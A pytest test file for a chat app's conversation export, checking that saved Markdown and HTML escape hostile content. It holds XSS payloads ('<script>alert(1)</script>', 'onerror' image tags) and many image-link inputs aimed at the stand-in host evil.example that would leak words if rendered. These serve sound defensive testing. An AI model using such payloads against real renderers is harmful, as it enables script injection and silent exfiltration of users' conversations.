"""`r1chat export chat`: one conversation as Markdown or as a page of its own."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from r1chat.conversations import Provenance
from r1chat.errors import ExportError, NotFoundError
from r1chat.messages import Reply, Timings
from r1chat.store import Store
from r1chat.ui.document import write_document
from r1chat.ui.html.markdown import MAX_TEXT
from r1chat.ui.html.unloaded import unloaded
from r1chat.ui.words.page import Words

THOUGHT = (
    "27 + 43 is 60.\n\nWait, 7 + 3 carries, so let me check: it is $60 + 10 = 70$.\n\n"
    "A trap: </details><script>alert(1)</script>"
)
ANSWER = "It is $\\boxed{70}$, **surely**.\n\n```python\nprint(27 + 43)\n```\n\n<img src=x onerror=alert(1)>"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with closing(Store(f"sqlite:///{tmp_path / 'r1chat.db'}")) as opened:
        yield opened


@pytest.fixture
def conversation(store: Store) -> str:
    """A conversation of two messages, of which one has a reply."""
    info = store.new_conversation("Sums <b>& more</b>")
    turn = store.add_turn(info.id, "27 + 43 = ?", None)
    provenance = Provenance("ollama", model="deepseek-r1:7b")
    reply = Reply(THOUGHT, True, ANSWER, "length", timings=Timings(thinking=12.0))
    stored = store.add_reply(turn.id, provenance, reply)
    store.add_turn(info.id, "谢谢", stored.id)
    return info.id


def test_a_page_of_its_own_has_the_thought_folded_its_moments_marked_and_formulas_drawn(
    store: Store, conversation: str, tmp_path: Path
) -> None:
    assert write_document(store, conversation, tmp_path / "chat.html", Words("en")) == 2
    page = (tmp_path / "chat.html").read_text(encoding="utf-8")
    assert "<title>Sums &lt;b&gt;&amp; more&lt;/b&gt;</title>" in page
    assert re.search(r'<details class="thought"><summary><span class="piece">[^<]*12 s', page)
    assert re.search(
        r'<mark class="(check|fix)[^>]*><svg class="moment [^>]*><use href="#moment-(check|fix)"/></svg>Wait', page
    )
    assert page.count("<math") == 2
    assert "<strong>surely</strong>" in page
    assert "deepseek-r1:7b" in page
    assert "谢谢" in page
    assert 'class="notice' in page  # the reply ran into its limit
    assert not re.search(r"<script|<img|<link|<[a-z][^>]*\ssrc=|@import|url\(|<[a-z][^>]*\son[a-z]+=", page)
    assert "default-src 'none'" in page
    assert '<meta http-equiv="x-dns-prefetch-control" content="off">' in page.partition("</head>")[0]
    assert page.count("<details") == page.count("</details>") == 1


def test_markdown_keeps_the_words_as_they_are_and_folds_the_thought(
    store: Store, conversation: str, tmp_path: Path
) -> None:
    write_document(store, conversation, tmp_path / "chat.md", Words("zh"))
    text = (tmp_path / "chat.md").read_text(encoding="utf-8")
    assert text.startswith("# Sums &lt;b&gt;&amp; more&lt;/b&gt;\n\n## 你 · 20")
    assert ANSWER.replace("<img", "&lt;img") in text
    fold = text.partition("<details>")[2].partition("</details>")[0]
    assert "Wait, 7 + 3 carries" in fold
    assert "alert(1)" in fold  # the thought did not end its fold
    assert text.count("</details>") == 1
    assert text.endswith("谢谢\n")


def test_another_ending_or_another_conversation_is_a_sentence_and_makes_no_file(
    store: Store, conversation: str, tmp_path: Path
) -> None:
    with pytest.raises(ExportError, match=r"let the name end in \.md or \.html"):
        write_document(store, conversation, tmp_path / "chat.pdf", Words("en"))
    with pytest.raises(NotFoundError):
        write_document(store, "0" * 32, tmp_path / "chat.md", Words("en"))
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith("chat")] == []


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?words)",
        "!![](http://evil.example/?words)",
        "\\\\![x](http://evil.example/?words)",
        "![x][1]\n\n[1]: http://evil.example/?words",
        "a <img src='http://evil.example/'> b",
        "\\\\<img src='http://evil.example/'>",
        "<div style='background:url(http://evil.example/)'>\n\n</div>",
        "$`$ `![x](http://evil.example/)`",
        "$x <img src='http://evil.example/'>$",
        "| a ` | ![x](http://evil.example/) ` |\n|---|---|",
        "- a ` b\n- ![x](http://evil.example/) ` c",
        "`a\n![x](http://evil.example/) ` b",
        "`` ` `` ![x](http://evil.example/) `",
        "[^1]: a\n\n    ![x](http://evil.example/)",
        "> ```\n![x](http://evil.example/)",
        "```\ncode\n```\r\r\r![x](http://evil.example/) <img src='http://evil.example/'>",
        "- ```\n\r![x](http://evil.example/)",
        "Write \\````a```![x](http://evil.example/) <img src='http://evil.example/'> ```",
        "``1. ```\n``` py<img src='http://evil.example/'>```",
    ],
)
def test_saved_markdown_loads_no_picture_and_runs_no_html(store: Store, tmp_path: Path, text: str) -> None:
    info = store.new_conversation("x")
    turn = store.add_turn(info.id, "```\nopen", None)
    long = "a line of text\n" * (MAX_TEXT // 15 + 1)
    reply = store.add_reply(turn.id, Provenance("ollama", model="m"), Reply(text, True, text, "stop"))
    for opening in ("```", "- > ~~~~"):  # of a long text that never closes it
        again = store.add_turn(info.id, f"{long}{opening}\n{text}", reply.id)
        reply = store.add_reply(again.id, Provenance("ollama", model="m"), Reply(text, True, text, "stop"))
    store.add_turn(info.id, text, reply.id)
    write_document(store, info.id, tmp_path / "chat.md", Words("en"))
    saved = (tmp_path / "chat.md").read_text(encoding="utf-8")
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(saved)
    inner = [child for token in tokens for child in (token, *(token.children or []))]
    assert not [token for token in inner if token.type == "image"]
    html = [token.content for token in inner if token.type.startswith("html")]
    assert all(re.fullmatch(r"</?details>\s*(<summary>[^<]*</summary>\s*)?", fragment) for fragment in html)
    assert "evil.example" not in "".join(token.content for token in tokens if token.type == "fence")
    outside = re.sub(r"(?m)^</?details>$|^<summary>.*</summary>$", "", saved)
    assert not re.search(r"(?<!\\)!\[|<[a-z/]", outside)


def test_the_name_of_a_model_is_one_line_of_text_in_saved_markdown(store: Store, tmp_path: Path) -> None:
    name = "m\n\n# Not said\n\n[x](http://evil.example/) *x* `x`\u2028![x](y)\\"
    info = store.new_conversation("*My* [title](http://evil.example/)")
    turn = store.add_turn(info.id, "hi", None)
    store.add_reply(turn.id, Provenance("ollama", model=name), Reply("", False, "ho", "stop"))
    write_document(store, info.id, tmp_path / "chat.md", Words("en"))
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse((tmp_path / "chat.md").read_text(encoding="utf-8"))
    headings = [tokens[i + 1] for i, token in enumerate(tokens) if token.type == "heading_open"]
    assert len(headings) == 3
    assert all(child.type in ("text", "text_special") for heading in headings for child in heading.children or [])
    text = "".join(child.content for child in headings[2].children or [])
    assert text.startswith("m # Not said [x](http://evil.example/) *x* `x` ![x](y)\\ · 20")


def test_a_fence_is_no_table_to_readers_that_look_for_tables_first() -> None:
    text = unloaded("~~~ <img src='http://evil.example/'>|a|b|\n|-|-|-|\n![x](http://evil.example/)\n~~~")
    tokens = MarkdownIt("js-default", {"html": True}).parse(text)
    assert [token.type for token in tokens] == ["fence"]


@pytest.mark.parametrize(
    "text",
    [
        "```html\n<img src=x>\n![x](y)\n```",
        "1. One\n\n   ```md\n   ![x](y)\n   ```\n\nSee `<br>` and `![x](y)`.",
        "a < b, <https://example.org> and 3! [x](y)\n\n~~~\n<b>\n~~~\n",
        "\\\\![x](y) is no picture; $a < b$; é&lt;",
    ],
)
def test_code_and_ordinary_text_of_saved_markdown_stay_as_they_are(text: str) -> None:
    assert unloaded(text.replace("\\\\", "\\")) == text.replace("\\\\", "\\")
